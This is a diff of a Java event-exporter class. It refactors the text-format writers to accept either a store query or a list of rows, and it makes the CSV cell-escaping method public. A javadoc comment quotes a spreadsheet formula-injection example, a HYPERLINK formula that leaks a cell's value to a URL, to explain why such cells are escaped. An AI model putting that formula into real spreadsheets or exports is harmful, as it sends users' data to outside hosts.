@@ -49,6 +49,27 @@ public final class Exporter {
      * Parquet); returns how many were written.
      */
     public long write(EventQuery query, ExportFormat format, OutputStream out) throws SQLException, IOException {
+        return write(sink -> store.events(query, sink), format, out);
+    }
+
+    /**
+     * Writes {@code rows} (a page of a listing, say) to {@code out} in a text format; returns how
+     * many were written.
+     */
+    public static long write(List<EventRow> rows, ExportFormat format, OutputStream out) throws IOException {
+        try {
+            return new Exporter(null).write(sink -> rows.forEach(sink), format, out);
+        } catch (SQLException e) {
+            throw new IllegalStateException("no store is read", e);
+        }
+    }
+
+    /** Where the rows to write come from. */
+    private interface Rows {
+        void each(java.util.function.Consumer<EventRow> sink) throws SQLException;
+    }
+
+    private long write(Rows rows, ExportFormat format, OutputStream out) throws SQLException, IOException {
         if (format == ExportFormat.PARQUET) {
             throw new IllegalArgumentException("Parquet is written to a file: use writeParquet");
         }
@@ -56,12 +77,12 @@ public final class Exporter {
         AtomicLong count = new AtomicLong();
         try {
             switch (format) {
-                case JSONL -> store.events(query, row -> line(w, json(row), count));
-                case PLOVER -> store.events(query, row -> line(w, json(plover(row)), count));
+                case JSONL -> rows.each(row -> line(w, json(row), count));
+                case PLOVER -> rows.each(row -> line(w, json(plover(row)), count));
                 case CSV -> {
                     w.write(String.join(",", CSV_COLUMNS.keySet()));
                     w.write("\r\n");
-                    store.events(query, row -> {
+                    rows.each(row -> {
                         List<String> cells = new ArrayList<>();
                         for (Function<EventRow, Object> f : CSV_COLUMNS.values()) {
                             cells.add(csv(f.apply(row)));
@@ -73,7 +94,7 @@ public final class Exporter {
                 case GEOJSON -> {
                     w.write("{\"type\":\"FeatureCollection\",\"features\":[\n");
                     AtomicLong n = new AtomicLong();
-                    store.events(query, row -> {
+                    rows.each(row -> {
                         if (row.lat() == null || row.lon() == null) {
                             return;
                         }
@@ -260,7 +281,7 @@ public final class Exporter {
      * {@code =HYPERLINK("http://…?leak="&A1)}) gets a leading apostrophe, as OWASP recommends, so
      * it is shown as text; numbers (a negative longitude) are left as they are.
      */
-    static String csv(Object v) {
+    public static String csv(Object v) {
         if (v == null) {
             return "";
         }
